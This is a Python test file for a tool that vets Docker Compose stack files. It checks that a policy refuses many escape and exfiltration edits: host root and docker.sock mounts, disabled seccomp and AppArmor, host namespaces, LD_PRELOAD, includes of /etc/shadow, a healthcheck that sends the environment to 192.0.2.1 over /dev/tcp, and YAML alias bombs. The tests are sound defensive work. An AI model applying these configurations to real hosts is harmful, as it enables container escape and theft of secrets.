"""A merge cannot take over the VM: what a stack file may say is a list, and everything that is not on it is refused.

Each file here is accepted by the real Compose (where it says so), so nothing but the list stands between the merge and the VM.
"""

from __future__ import annotations

import json
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from cutover.core.errors import Refused
from cutover.portainer import compose, compose_file, compose_policy
from cutover.site import load as site_load
from cutover.site import schema

ROOT = Path(__file__).parents[2]
SERVICE = "    restart: unless-stopped\n"
SCHEMA = Path(str((find_spec("check_jsonschema") or pytest.skip("check-jsonschema is not here")).origin)).parent / (
    "builtin_schemas/vendor/compose-spec.json"
)


@pytest.fixture(scope="module")
def ours() -> schema.Site:
    return site_load.load(ROOT / "site.yaml")


@pytest.fixture(scope="module")
def text(ours: schema.Site) -> str:
    return (ROOT / ours.portainer.compose_file).read_text()


def serviced(more: str) -> tuple[str, str]:
    """A change that adds lines to the service."""
    return SERVICE, SERVICE + "".join(f"    {line}\n" for line in more.splitlines())


#: What is replaced by what, and where the refusal says it is. All are accepted by Compose.
ATTACKS: dict[str, tuple[tuple[str, str], str]] = {
    "a volume that is the host's root": (
        ("    name: qdrant_storage\n",
         "    name: qdrant_storage\n    driver: local\n    driver_opts: {type: none, o: bind, device: /}\n"),
        "volumes.qdrant_storage.driver_opts",
    ),
    "a volume over the network": (
        ("    name: qdrant_storage\n",
         '    name: qdrant_storage\n    driver_opts: {type: nfs, o: "addr=192.0.2.1", device: ":/"}\n'),
        "volumes.qdrant_storage.driver_opts",
    ),
    "a volume of another driver": (("    name: qdrant_storage\n", "    name: qdrant_storage\n    driver: sshfs\n"),
                                   "volumes.qdrant_storage.driver"),
    "another stack's volume": (("    name: qdrant_storage\n", "    name: portainer_data\n"), "volumes.qdrant_storage.name"),
    "another stack's volume, external": (
        ("    name: qdrant_storage\n", "    name: portainer_data\n    external: true\n"), "volumes.qdrant_storage.name"),
    "a volume over the programs": (
        ("- qdrant_snapshots:/qdrant/snapshots\n",
         "- qdrant_snapshots:/qdrant/snapshots\n      - qdrant_storage:/usr/bin\n"), "services.qdrant.volumes[2].target"),
    "the engine's socket": (
        ("- qdrant_snapshots:/qdrant/snapshots\n",
         "- qdrant_snapshots:/qdrant/snapshots\n      - {type: bind, source: /var/run/docker.sock, target: /s}\n"),
        "services.qdrant.volumes[2]"),
    "privileges can be gained": (("no-new-privileges:true", "no-new-privileges:false"), "services.qdrant.security_opt[0]"),
    "no filter of system calls": (('"no-new-privileges:true"', '"no-new-privileges:true", "seccomp:unconfined"'),
                                  "services.qdrant.security_opt[1]"),
    "no AppArmor": (('"no-new-privileges:true"', '"no-new-privileges:true", "apparmor=unconfined"'),
                    "services.qdrant.security_opt[1]"),
    "no SELinux labels": (('"no-new-privileges:true"', '"no-new-privileges:true", "label:disable"'),
                          "services.qdrant.security_opt[1]"),
    "the host's processes": (serviced("pid: host"), "`pid`"),
    "the host's names": (serviced("uts: host"), "services.qdrant.uts"),
    "the host's users": (serviced("userns_mode: host"), "services.qdrant.userns_mode"),
    "the host's memory segments": (serviced("ipc: host"), "`ipc`"),
    "the host's control groups": (serviced("cgroup: host"), "services.qdrant.cgroup"),
    "another control group": (serviced("cgroup_parent: /"), "services.qdrant.cgroup_parent"),
    "the host's network": (serviced("network_mode: host"), "`network_mode`"),
    "all devices": (serviced("device_cgroup_rules: ['b *:* rwm']"), "services.qdrant.device_cgroup_rules"),
    "a device by its interface": (serviced("gpus: all"), "services.qdrant.gpus"),
    "a device by a reservation": (
        ("mem_reservation: 2048m", "deploy: {resources: {reservations: {devices: [{capabilities: [gpu], count: 1}]}}}"),
        "services.qdrant.deploy.resources.reservations.devices"),
    "another container's volumes": (serviced("volumes_from: ['container:portainer']"), "services.qdrant.volumes_from"),
    "another runtime": (serviced("runtime: sysbox-runc"), "services.qdrant.runtime"),
    "a privileged command after the start": (
        serviced("post_start: [{command: ['sh', '-c', 'id'], user: root, privileged: true}]"), "services.qdrant.post_start"),
    "a command before the end": (serviced("pre_stop: [{command: ['id'], privileged: true}]"), "services.qdrant.pre_stop"),
    "kernel settings": (serviced("sysctls: {net.ipv4.ip_forward: 1}"), "services.qdrant.sysctls"),
    "a link to another container": (serviced("external_links: [portainer]"), "services.qdrant.external_links"),
    "names of its own": (serviced("extra_hosts: ['git.home.arpa:192.0.2.1']"), "services.qdrant.extra_hosts"),
    "a name server of its own": (serviced("dns: 192.0.2.1"), "services.qdrant.dns"),
    "more groups": (serviced("group_add: [docker]"), "services.qdrant.group_add"),
    "first in line for memory": (serviced("oom_score_adj: -1000"), "services.qdrant.oom_score_adj"),
    "the engine's API": (serviced("use_api_socket: true"), "services.qdrant.use_api_socket"),
    "a program on the host": (serviced("provider: {type: evil}"), "services.qdrant.provider"),
    "no limit of processes": (("pids_limit: 1024", "pids_limit: -1"), "services.qdrant.pids_limit"),
    "labels that steer the proxy": (serviced("labels: {traefik.enable: 'true'}"), "services.qdrant.labels"),
    "a log that goes elsewhere": (("driver: json-file", "driver: gelf"), "services.qdrant.logging.driver"),
    "a profile that never starts": (serviced("profiles: [never]"), "services.qdrant.profiles"),
    "two of them": (serviced("scale: 2"), "services.qdrant.scale"),
    "another network, external": (
        ("\nvolumes:\n  qdrant_storage:", "\nnetworks:\n  default: {name: portainer_default, external: true}\nvolumes:\n  qdrant_storage:"), "networks.default"),
    "the host's network as an external one": (
        ("\nvolumes:\n  qdrant_storage:", "\nnetworks:\n  default: {name: host, external: true}\nvolumes:\n  qdrant_storage:"),
        "networks.default"),
    "a network driver": (
        ("\nvolumes:\n  qdrant_storage:", "\nnetworks:\n  default: {driver: macvlan}\nvolumes:\n  qdrant_storage:"),
        "networks.default.driver"),
    "a range of ports": (('"10.0.0.101:6333:6333"', '"10.0.0.101:6333:6333"\n      - "10.0.0.101:22-23:22-23"'),
                         "services.qdrant.ports[1]"),
    "the port of something else": (('"10.0.0.101:6333:6333"', '"10.0.0.101:6333:6333"\n      - "127.0.0.1:9443:6333"'),
                                   "services.qdrant.ports[1]"),
    "a health check that tells the keys": (
        ("/dev/tcp/127.0.0.1/6333 &&", "/dev/tcp/192.0.2.1/80 && env >&3 &&"), "services.qdrant.healthcheck.test"),
    "a key in another place": (
        ("      QDRANT__TELEMETRY_DISABLED:", "      QDRANT__LOG_LEVEL: ${QDRANT_API_KEY:?x}\n      QDRANT__TELEMETRY_DISABLED:"),
        "services.qdrant.environment.QDRANT__LOG_LEVEL"),
    "a program that is loaded first": (
        ("      QDRANT__TELEMETRY_DISABLED:", "      LD_PRELOAD: /qdrant/storage/x.so\n      QDRANT__TELEMETRY_DISABLED:"),
        "services.qdrant.environment.LD_PRELOAD"),
    "the data elsewhere": (
        ("      QDRANT__TELEMETRY_DISABLED:",
         "      QDRANT__STORAGE__STORAGE_PATH: /tmp/x\n      QDRANT__TELEMETRY_DISABLED:"),
        "services.qdrant.environment.QDRANT__STORAGE__STORAGE_PATH"),
    "snapshots to somebody's bucket": (
        ("      QDRANT__TELEMETRY_DISABLED:",
         "      QDRANT__STORAGE__SNAPSHOTS_CONFIG__SNAPSHOTS_STORAGE: s3\n      QDRANT__TELEMETRY_DISABLED:"),
        "services.qdrant.environment.QDRANT__STORAGE__SNAPSHOTS_CONFIG__SNAPSHOTS_STORAGE"),
    "memory in place of the data": (("- /tmp:size", "- /qdrant/storage/aliases:size"), "services.qdrant.tmpfs[0]"),
    "programs in the memory": (("noexec,nosuid,nodev", "exec,suid,dev"), "services.qdrant.tmpfs[0]"),
    "a key of this tool": (
        ("      QDRANT__TELEMETRY_DISABLED:",
         "      RUST_LOG: ${PROXMOX_TOKEN_SECRET:?x}\n      QDRANT__TELEMETRY_DISABLED:"), "${PROXMOX_TOKEN_SECRET}"),
    "a value that is set elsewhere": (("cpus: 2", "cpus: ${CPUS:-2}"), "${CPUS}"),
    "an option behind an anchor": (
        serviced("x-o: &o {pid: host, uts: host}\n<<: *o"), "services.qdrant.uts"),
}  # fmt: skip

#: What must not even be read: the file's change, and where.
READ = {
    "include": ("services:\n", "include: [/etc/shadow]\nservices:\n"),
    "include with folders": (
        "services:\n",
        "include: [{path: /etc/shadow, project_directory: /, env_file: /etc/shadow}]\nservices:\n",
    ),
    "include from the network": ("services:\n", "include: ['https://192.0.2.1/evil.git']\nservices:\n"),
    "include from a registry": ("services:\n", "include: ['oci://192.0.2.1/evil']\nservices:\n"),
    "extends": serviced("extends: {file: /etc/shadow, service: x}"),
    "env_file": serviced("env_file: [/etc/shadow]"),
    "env_file, raw": serviced("env_file: [{path: /etc/shadow, format: raw, required: false}]"),
    "label_file": serviced("label_file: [/etc/shadow]"),
    "credential_spec": serviced("credential_spec: {file: /etc/shadow}"),
    "configs": ("services:\n", "configs: {x: {file: /etc/shadow}}\nservices:\n"),
    "secrets": ("services:\n", "secrets: {x: {environment: PROXMOX_TOKEN_SECRET}}\nservices:\n"),
    "build": serviced("build: {context: 'https://192.0.2.1/evil.git'}"),
    "develop": serviced("develop: {watch: [{path: /etc, action: sync, target: /x}]}"),
    "models": ("services:\n", "models: {x: {model: evil}}\nservices:\n"),
    "another service": ("services:\n", "services:\n  web:\n    image: web:1\n    extends: {file: /etc/shadow, service: x}\n"),
}


def test_the_file_that_ships_is_on_the_list(text: str, ours: schema.Site) -> None:
    assert compose_file.mistakes(compose_file.read(text), ours) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_not_listed_is_refused_where_it_stands(attack: str, text: str, ours: schema.Site) -> None:
    (was, becomes), where = ATTACKS[attack]
    assert was in text
    changed = text.replace(was, becomes, 1)
    found = compose_file.mistakes(compose_file.read(changed), ours)
    assert any(where in mistake for mistake in found), found
    assert all("192.0.2.1" not in mistake for mistake in found)


@pytest.mark.parametrize("attack", READ)
def test_compose_is_not_asked_about_a_file_that_reads_others(
    attack: str, text: str, ours: schema.Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    really = compose.config

    def noted(text: str, project: str, **more: Any) -> compose.Answer:
        asked.append(text)
        return really(text, project, **more)

    monkeypatch.setattr(compose, "config", noted)
    was, becomes = READ[attack]
    changed = text.replace(was, becomes, 1)
    assert compose_file.mistakes(compose_file.read(changed), ours)
    said = compose_file.compose_says(changed, compose_policy.PLACEHOLDERS)
    assert said is not None
    assert "/etc/shadow" not in said
    assert all(text.startswith("{") and "/etc/shadow" not in text and "192.0.2.1" not in text for text in asked)  # the key alone


def test_a_second_document_and_unknown_tags_are_not_read(text: str) -> None:
    for more in ("---\ninclude: [/etc/shadow]\n", "x-a: !reset null\n", "x-b: !!python/object:os.system {}\n"):
        with pytest.raises(Refused):
            compose_file.read(text + more)


def test_a_file_that_means_millions_is_refused_before_compose_sees_it(text: str) -> None:
    bomb = "x-0: &x0 [lol]\n" + "".join(f"x-{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 12))
    itself = "x-a: &a\n  b: *a\n"
    for more in (bomb, itself):
        with pytest.raises(Refused, match="aliases"):
            compose_file.read(text + more)


def test_every_key_that_compose_knows_is_listed_or_refused(text: str, ours: schema.Site) -> None:
    """The whole of the specification, not only what somebody thought of."""
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    keys = {key for kind in ("container_spec", "workload_spec", "service") for key in schema["$defs"][kind]["properties"]}
    top = set(schema["properties"])
    assert len(keys) > 80
    listed = set(compose_policy._service(compose_policy._NOWHERE))
    assert listed <= keys
    tree = {"services": {"qdrant": dict.fromkeys(keys)}, **dict.fromkeys(top - {"services"})}
    unread = {path for path, _ in compose_policy.unread(tree)}
    assert unread == {f"services.qdrant.{key}" for key in keys - listed} | (top - compose_policy._TOP)
    assert len(keys - listed) > 50


@pytest.mark.parametrize(
    "change",
    [
        serviced("labels: {org.opencontainers.image.source: 'https://git.home.arpa/x'}"),
        serviced("user: '1000:1000'"),
        serviced("init: true"),
        serviced("stop_signal: SIGTERM"),
        serviced("shm_size: 64m"),
        serviced("expose: ['6333']"),
        ("mem_reservation: 2048m", "deploy: {resources: {reservations: {memory: 2048m}}}"),
        ("      QDRANT__TELEMETRY_DISABLED:", "      QDRANT__LOG_LEVEL: INFO\n      QDRANT__TELEMETRY_DISABLED:"),
        ("      QDRANT__TELEMETRY_DISABLED:",
         "      QDRANT__STORAGE__OPTIMIZERS__INDEXING_THRESHOLD_KB: '1000'\n      QDRANT__TELEMETRY_DISABLED:"),
        ("      nofile: 65536", "      nofile: {soft: 65536, hard: 65536}"),
        ('security_opt: ["no-new-privileges:true"]', 'security_opt: ["no-new-privileges=true"]'),
        ("\nvolumes:\n  qdrant_storage:", "\nnetworks:\n  default: {internal: false}\nvolumes:\n  qdrant_storage:"),
        ("      QDRANT__TELEMETRY_DISABLED:",
         "      QDRANT__SERVICE__ALT_API_KEY: ${QDRANT_ALT_API_KEY:?}\n      QDRANT__TELEMETRY_DISABLED:"),
        ("restart: unless-stopped", "restart: always"),
        ("services:\n", "x-note: anything\nname: qdrant\nservices:\n"),
        ("- qdrant_storage:/qdrant/storage\n", "- {type: volume, source: qdrant_storage, target: /qdrant/storage}\n"),
    ],
)  # fmt: skip
def test_what_an_operator_may_want_is_on_the_list(change: tuple[str, str], text: str, ours: schema.Site) -> None:
    assert change[0] in text
    assert compose_file.mistakes(compose_file.read(text.replace(*change, 1)), ours) == []


def test_what_compose_stumbles_over_is_not_shown(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Even where Compose reads what it should not, its sentence does not come out."""

    def shown(script: str) -> str:
        binary = tmp_path / "compose"
        binary.write_text(f"#!/bin/sh\n{script}\nexit 1\n")
        binary.chmod(0o755)
        monkeypatch.setattr(compose, "binary", lambda: [str(binary)])
        return str(compose_file.compose_says(text, compose_policy.PLACEHOLDERS))

    for said in (
        "yaml: line 2: root:$y$hash:19000::: could not find expected ':'",
        "services.qdrant.ports[0] root:hash must be a string",
        "services.qdrant additional properties 'hash' not allowed",
        "required variable root:hash is missing a value: hash",
        "hash",
    ):
        assert "hash" not in shown(f"echo {json.dumps(said).replace('$', chr(92) + '$')} >&2")
